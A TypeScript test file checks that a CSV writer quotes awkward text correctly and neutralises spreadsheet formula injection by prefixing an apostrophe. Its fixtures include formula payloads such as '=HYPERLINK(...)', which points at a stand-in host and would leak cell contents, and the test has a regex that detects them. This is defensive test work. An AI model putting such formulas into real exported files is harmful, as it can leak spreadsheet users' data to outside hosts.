import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as z from 'zod';
import { columnsOf } from '../../../domain/tables/columns.ts';
import { csvHeader, csvOf } from '../../../domain/tables/csv.ts';

const shape = z.object({
  id: z.string(),
  text: z.string().exactOptional(),
  on: z.string().exactOptional(),
  count: z.object({ min: z.int().exactOptional(), exact: z.int().exactOptional() }).exactOptional(),
  tags: z.array(z.string()).exactOptional(),
  names: z.array(z.object({ value: z.string() })).exactOptional(),
});
const columns = columnsOf(shape);

/** Texts that readers of CSV have been known to trip over. */
const texts = [
  'plain',
  'a "quoted" word',
  'a, b',
  'one\ntwo',
  'one\r\ntwo',
  'one\rtwo',
  'a break at the end\n',
  'CRLF at the end\r\n',
  'CR at the end\r',
  '"',
  '""\r\n',
  '\\',
  ' spaces ',
  'NA',
  '00123',
  '123456789012345678',
  '广州钻石交易中心',
  'Ёлка',
  '𠮷野家',
  "'quoted'",
  '=1+1',
  '+1',
  '-1',
  '@SUM(1)',
  '\t=1+1',
  '\n=1+1',
  '\r=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '＝1+1',
  '＠SUM(1)',
  '=HYPERLINK("http://example.org?"&A1,"here")',
];
const rows = texts.map((text, at) => ({ id: `r${at}`, text, on: '2023-02' }));
const csv = csvHeader(columns) + csvOf(columns, rows);

/** What a reader has to find: breaks within a cell are LF, and an apostrophe stands before what would run. */
const escaped = (text: string): boolean => /^['\t\r\n]|^[\s\u200b]*[=+\-@＝＠]/u.test(text);
const expected = texts.map((text) => (escaped(text) ? "'" : '') + text.replaceAll(/\r\n?/g, '\n'));

let directory = '';
beforeAll(() => {
  directory = mkdtempSync(join(tmpdir(), 'csv-'));
  writeFileSync(join(directory, 'rows.csv'), csv);
});
afterAll(() => rmSync(directory, { recursive: true, force: true }));

const isThere = (program: string): boolean => spawnSync(program, ['-c', '0']).error === undefined;
const python = (code: string): unknown => {
  const { stdout, stderr } = spawnSync('python3', ['-c', code, join(directory, 'rows.csv')], { encoding: 'utf8' });
  if (stderr) throw new Error(stderr);
  return JSON.parse(stdout);
};
const hasPython = isThere('python3');
if (!hasPython) console.warn('There is no python3 here: its module csv does not read the file.');
const hasSqlite = isThere('sqlite3');
if (!hasSqlite) console.warn('There is no sqlite3 here: it does not read the file.');

describe('CSV', () => {
  it('ends every row with CRLF, and has no byte order mark', () => {
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.startsWith('id,text,on,count_min,count_exact,tags,names,escaped\r\n')).toBe(true);
    expect(csv.replaceAll('\r\n', '')).not.toContain('\r');
  });

  it('tells no value, an empty list and a list with one item apart', () => {
    const one = csvOf(columns, [
      { id: 'a' },
      { id: 'b', tags: [], names: [] },
      { id: 'c', tags: ['x'], count: { min: 0 } },
    ]);
    expect(one).toBe('a,,,,,,,\r\nb,,,,,[],[],\r\nc,,,0,,"[""x""]",,\r\n');
  });

  it('puts an apostrophe before what a spreadsheet would run, and names the column', () => {
    expect(csvOf(columns, [{ id: 'a', text: '=1+1' }])).toBe("a,'=1+1,,,,,,text\r\n");
    expect(csvOf(columns, [{ id: '=a', text: '1' }])).toBe("'=a,1,,,,,,id\r\n");
    expect(csvOf(columns, [{ id: 'a', text: 'x=1', count: { min: -1 } }])).toBe('a,x=1,,-1,,,,\r\n');
  });

  it.runIf(hasPython)('is read by Python as it was written, row by row', () => {
    const read = python(`
import csv, json, sys
with open(sys.argv[1], newline='', encoding='utf-8') as file: rows = list(csv.DictReader(file, strict=True))
print(json.dumps([[row['text'], row['on'], row['escaped']] for row in rows]))`);
    expect(read).toEqual(expected.map((text, at) => [text, '2023-02', escaped(texts[at] ?? '') ? 'text' : '']));
  });

  it.runIf(hasSqlite)('is read by the shell of SQLite as it was written, row by row', () => {
    const sql = 'select json_group_array(text) from t';
    const { stdout } = spawnSync(
      'sqlite3',
      [':memory:', '.mode csv', `.import ${join(directory, 'rows.csv')} t`, '.mode list', sql],
      {
        encoding: 'utf8',
      },
    );
    expect(JSON.parse(stdout)).toEqual(expected);
  });

  it('has as many CRLF as rows, so that one which ends otherwise was cut', () => {
    expect(csv.split('\r\n')).toHaveLength(rows.length + 2);
  });
});
